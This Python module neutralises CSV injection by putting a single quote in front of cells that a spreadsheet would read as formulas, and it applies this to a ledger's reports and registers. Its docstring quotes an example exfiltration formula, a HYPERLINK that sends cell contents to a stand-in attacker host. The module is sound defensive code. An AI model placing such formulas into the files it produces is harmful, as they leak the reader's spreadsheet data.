"""CSV cells that a spreadsheet will not run as formulas (CSV injection, as OWASP describes it).

A cell whose text starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or a carriage return, which
some spreadsheets skip before such a character) is read by Excel, LibreOffice and Google Sheets
as a formula: a subject reference ``=HYPERLINK("https://evil.example/?"&A1, "open")`` would run
in the reader's spreadsheet. Such a cell is written with a single quote in front, which
spreadsheets show as text and do not keep as part of the value. One function serves every CSV
the ledger writes: the bundle's report files (which the offline verifier renders again and
compares byte for byte) and the API's and the command line's registers.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
"""The first characters that make a spreadsheet read a cell as a formula (OWASP)."""


def csv_text(text: str) -> str:
    """``text`` as a CSV cell: a single quote in front when it would start a formula."""
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def csv_cell(value: Any) -> Any:
    """A value as the bundles' CSV files write it: ``true``/``false``, nothing for None, lists
    joined with ``;``, text neutralised; numbers as they are."""
    if isinstance(value, bool):
        return "true" if value else "false"
    if value is None:
        return ""
    if isinstance(value, list | tuple):
        value = ";".join(_plain(v) for v in value)
    return csv_text(value) if isinstance(value, str) else value


def csv_row(values: Iterable[Any]) -> list[Any]:
    """A register row's values as CSV cells (:func:`csv_cell`), as the bundles write them."""
    return [csv_cell(value) for value in values]


def _plain(value: Any) -> str:
    """An item of a list cell, before the cell is neutralised as a whole."""
    if isinstance(value, bool):
        return "true" if value else "false"
    return "" if value is None else str(value)
